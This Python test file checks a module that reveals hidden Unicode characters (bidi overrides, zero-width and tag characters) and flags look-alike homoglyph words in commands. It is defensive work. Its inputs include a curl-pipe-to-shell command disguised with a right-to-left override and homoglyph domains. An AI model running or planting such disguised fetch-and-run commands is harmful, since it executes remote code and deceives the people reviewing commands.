"""Every hidden character of Unicode becomes visible, and nothing else changes."""

from __future__ import annotations

import sys
import unicodedata

import pytest

from workbench.permissions.visible import hidden_characters, is_hidden, mixed_script_words, visible

IGNORABLE = {
    *range(0x34F, 0x350), *range(0x115F, 0x1161), *range(0x17B4, 0x17B6), *range(0x180B, 0x1810), 0x3164, *range(0xFE00, 0xFE10), 0xFFA0,
    *range(0xE0100, 0xE01F0),
}  # fmt: skip
"""Default-ignorable characters whose category does not already say that they are hidden (Unicode, DerivedCoreProperties)."""
BLANK = {0x2800}


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("plain text, 中文, emoji 😀, é", "plain text, 中文, emoji 😀, é"),
        ("", ""),
        ("a\nb", "a⏎b"),
        ("a\tb", "a⇥b"),
        ("a\rb", "a⟨U+000D⟩b"),
        ("a\x00b\x1b[2K\x7f", "a⟨U+0000⟩b⟨U+001B⟩[2K⟨U+007F⟩"),
        ("git status \u202e# hs | live\u202c", "git status ⟨U+202E⟩# hs | live⟨U+202C⟩"),
        ("ls \u2066README\u2069", "ls ⟨U+2066⟩README⟨U+2069⟩"),
        ("ok\u200b\u2060\ufeff\u00ad", "ok⟨U+200B⟩⟨U+2060⟩⟨U+FEFF⟩⟨U+00AD⟩"),
        ("cat\u00a0x\u3000y\u2003z", "cat⟨U+00A0⟩x⟨U+3000⟩y⟨U+2003⟩z"),
        ("a\u2028b\u2029c", "a⟨U+2028⟩b⟨U+2029⟩c"),
        ("\U000e0068\U000e0069", "⟨U+E0068⟩⟨U+E0069⟩"),
        ("\ue000\U000f0000", "⟨U+E000⟩⟨U+F0000⟩"),
        ("\ud83d alone \udcff", "⟨U+D83D⟩ alone ⟨U+DCFF⟩"),
        ("\u0378\uffff", "⟨U+0378⟩⟨U+FFFF⟩"),
        ("\u115f\u3164\uffa0\u2800\ufe0f\U000e0100", "⟨U+115F⟩⟨U+3164⟩⟨U+FFA0⟩⟨U+2800⟩⟨U+FE0F⟩⟨U+E0100⟩"),
        ("<b>&amp;</b>", "<b>&amp;</b>"),
    ],
)
def test_text_is_shown_as_it_is(text: str, expected: str) -> None:
    assert visible(text) == expected


def test_every_character_of_unicode_is_judged_by_its_category() -> None:
    wrong = []
    for number in range(sys.maxunicode + 1):
        character = chr(number)
        category = unicodedata.category(character)
        hidden = category[0] == "C" or category in {"Zl", "Zp"} or (category == "Zs" and character != " ") or number in IGNORABLE | BLANK
        if is_hidden(character) != hidden:
            wrong.append(f"U+{number:04X}")
    assert wrong == []


def test_shown_text_holds_nothing_hidden() -> None:
    everything = "".join(chr(number) for number in range(0, sys.maxunicode + 1, 7))
    assert not any(is_hidden(character) for character in visible(everything))


def test_a_view_that_draws_lines_keeps_its_newlines() -> None:
    assert visible("a\n\tb\r\n", keep="\n") == "a\n⇥b⟨U+000D⟩\n"


def test_hidden_characters_are_counted_with_their_places() -> None:
    command = "curl http://safe.example/\u202e\u2066moc.live\u2069/d | sh # rm /tmp/\u200bimportant \U000e0068\U000e0069 \u0430pple.example"
    found = hidden_characters(command)
    assert [character.code for character in found] == ["U+202E", "U+2066", "U+2069", "U+200B", "U+E0068", "U+E0069"]
    assert all(is_hidden(command[character.offset]) for character in found)
    assert hidden_characters("two\nlines\tand a tab") == ()


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("curl http://\u0430pple.example/x", ("\u0430pple.example",)),
        ("сайт.example", ()),
        ("\u0441at README.md", ("\u0441at",)),
        ("a\u200bdmin", ()),
        ("привет мир", ()),
        ("grep 错误 логи file.txt", ()),
        ("print中文", ()),
        ("\u03bfpen x", ("\u03bfpen",)),
        ("ls -la", ()),
    ],
)
def test_words_of_look_alike_alphabets_are_named(text: str, expected: tuple[str, ...]) -> None:
    assert mixed_script_words(text) == expected
